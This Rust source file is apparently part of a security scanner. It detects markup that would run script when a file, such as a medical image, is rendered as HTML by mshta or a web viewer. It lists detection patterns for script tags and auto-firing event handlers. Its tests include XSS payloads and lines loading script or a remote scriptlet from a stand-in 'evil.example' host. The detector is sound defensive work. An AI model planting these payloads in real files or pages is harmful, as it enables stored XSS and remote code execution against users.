//! Markup that runs script when the file is rendered as HTML.
//!
//! `mshta.exe` (an HTA host) and old Internet Explorer modes render a file as HTML whatever
//! comes before the markup: binary bytes are shown as text, and the first `<script>` or
//! event-handler attribute runs. A web viewer that shows a text element unescaped does the
//! same (stored XSS). So markup is looked for anywhere in the file, in ASCII and in UTF-16
//! (mshta honours a UTF-16 byte-order mark), and confirmed by its syntax: a tag that opens
//! script, or an `on...=` attribute inside a tag.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use pacsguard_events::escape_bytes;

/// How far back from an event-handler attribute the `<` of its tag may be. Real tags
/// carry a few attributes; a handler thousands of bytes after a `<` is not in one.
const MAX_TAG_SPAN: usize = 512;

/// What opens a candidate; each is confirmed by what surrounds it.
const NEEDLES: [&str; 4] = ["<script", "<hta:application", "script:", "scriptlet:"];

/// Event handlers that fire without a click (load, error, focus with autofocus, IE's
/// property and state changes, animation and transition ends, SVG timing).
const HANDLERS: [&str; 16] = [
    "onload",
    "onerror",
    "onfocus",
    "onfocusin",
    "onactivate",
    "onbeforeactivate",
    "onreadystatechange",
    "onpropertychange",
    "onmouseover",
    "onpageshow",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "onbegin",
    "ontoggle",
    "onscroll",
];

static SEARCHERS: LazyLock<Option<(AhoCorasick, AhoCorasick)>> = LazyLock::new(|| {
    let build = |patterns: Vec<Vec<u8>>| {
        AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(patterns)
            .ok()
    };
    let ascii: Vec<Vec<u8>> = NEEDLES
        .iter()
        .map(|n| n.as_bytes().to_vec())
        .chain(HANDLERS.iter().map(|h| h.as_bytes().to_vec()))
        .collect();
    let wide: Vec<Vec<u8>> = ascii.iter().map(|p| utf16le(p)).collect();
    Some((build(ascii)?, build(wide)?))
});

fn utf16le(ascii: &[u8]) -> Vec<u8> {
    ascii.iter().flat_map(|&b| [b, 0]).collect()
}

/// Markup that would run script, found in `bytes`: its offset and one sentence.
pub fn find_active_markup(bytes: &[u8]) -> Option<(usize, String)> {
    let (ascii, wide) = SEARCHERS.as_ref()?;
    for (searcher, width) in [(ascii, 1usize), (wide, 2usize)] {
        for found in searcher.find_iter(bytes) {
            let at = found.start();
            let text = narrow(&bytes[at..bytes.len().min(at + 64 * width)], width);
            let before = |n: usize| narrow(&bytes[at.saturating_sub(n * width)..at], width);
            if let Some(what) = confirm(&text, &before) {
                let encoding = if width == 2 { " (UTF-16)" } else { "" };
                return Some((at, format!("{what}{encoding}")));
            }
        }
    }
    None
}

/// Every `width`-th byte (the low bytes of UTF-16LE), so one grammar serves both.
fn narrow(bytes: &[u8], width: usize) -> Vec<u8> {
    if width == 1 {
        return bytes.to_vec();
    }
    bytes
        .chunks_exact(2)
        .take_while(|pair| pair[1] == 0)
        .map(|pair| pair[0])
        .collect()
}

fn confirm(text: &[u8], before: &dyn Fn(usize) -> Vec<u8>) -> Option<String> {
    let lower: Vec<u8> = text.to_ascii_lowercase();
    if let Some(rest) = lower.strip_prefix(b"<script") {
        // `<script>`, `<script src=...>`, `<script/src=...>`: the tag name must end there.
        let next = *rest.first()?;
        if next == b'>' || next == b'/' || next.is_ascii_whitespace() {
            return Some(format!(
                "a <script> tag (\"{}\"): script runs when the file is rendered as HTML (mshta, or a web viewer showing the value: stored XSS)",
                excerpt(text)
            ));
        }
        return None;
    }
    if lower.starts_with(b"<hta:application") {
        return Some(
            "an <hta:application> tag: mshta runs this file as an HTML application".to_owned(),
        );
    }
    if lower.starts_with(b"script:") || lower.starts_with(b"scriptlet:") {
        // A scriptlet moniker (`script:http://...`, `GetObject("script:...")`) loads and
        // runs a remote scriptlet; the word alone is common, a URL after it is not.
        let rest = &lower[lower.iter().position(|&b| b == b':')? + 1..];
        let prefix = before(1);
        let quoted = matches!(prefix.first(), Some(b'"' | b'\''));
        if quoted
            && (rest.starts_with(b"http://")
                || rest.starts_with(b"https://")
                || rest.starts_with(b"\\\\")
                || rest.starts_with(b"file:"))
        {
            return Some(format!(
                "a scriptlet moniker (\"{}\"): loads and runs a remote scriptlet",
                excerpt(text)
            ));
        }
        return None;
    }
    // An event handler: `on...` preceded by a separator, followed by `=`, inside a tag.
    let name_len = lower.iter().take_while(|b| b.is_ascii_alphabetic()).count();
    let after = lower[name_len..]
        .iter()
        .position(|b| !b.is_ascii_whitespace())
        .map(|skip| lower.get(name_len + skip));
    if after != Some(Some(&b'=')) {
        return None;
    }
    let prefix = before(MAX_TAG_SPAN);
    let separator = *prefix.last()?;
    if !(separator.is_ascii_whitespace() || matches!(separator, b'/' | b'"' | b'\'')) {
        return None;
    }
    // The nearest `<` before it must open a tag (`<name`), with no `>` in between.
    let open = prefix.iter().rposition(|&b| b == b'<')?;
    if prefix[open..].contains(&b'>') {
        return None;
    }
    let tag: Vec<u8> = prefix[open + 1..]
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric())
        .copied()
        .collect();
    if tag.is_empty() || !tag[0].is_ascii_alphabetic() {
        return None;
    }
    Some(format!(
        "an event handler in markup (\"<{}...{}\"): script runs when the file is rendered as HTML (mshta, or a web viewer showing the value: stored XSS)",
        escape_bytes(&tag),
        excerpt(text)
    ))
}

fn excerpt(text: &[u8]) -> String {
    const SHOWN: usize = 40;
    escape_bytes(&text[..text.len().min(SHOWN)])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn script_tags_and_handlers_are_found_in_any_case_and_encoding() {
        for markup in [
            &b"\0\x01garbage<SCRIPT>alert(1)</script>"[..],
            b"xx<script/src=//evil.example/x.js>",
            b"II*\0\x08\0\0\0<img src=x onerror=alert(1)>",
            b"ACME CT<svg/onload=alert(1)>",
            b"<body onLoad = \"x()\">",
            b"<HTA:APPLICATION id=x>",
            b"GetObject(\"script:https://evil.example/x.sct\")",
        ] {
            assert!(find_active_markup(markup).is_some(), "{markup:?}");
        }
        let wide = utf16le(b"\xff\xfe<script>alert(1)</script>");
        assert!(
            find_active_markup(&wide)
                .expect("utf-16")
                .1
                .contains("UTF-16")
        );
    }

    #[test]
    fn words_that_are_not_markup_are_not_found() {
        for text in [
            &b"onload=1 without a tag"[..],
            b"<scripts are fine>",
            b"a < b onload= c",
            b"<p>text</p> onerror=1",
            b"javascript:void(0) script: plain",
            b"the description: script: none",
        ] {
            assert_eq!(find_active_markup(text), None, "{text:?}");
        }
    }
}
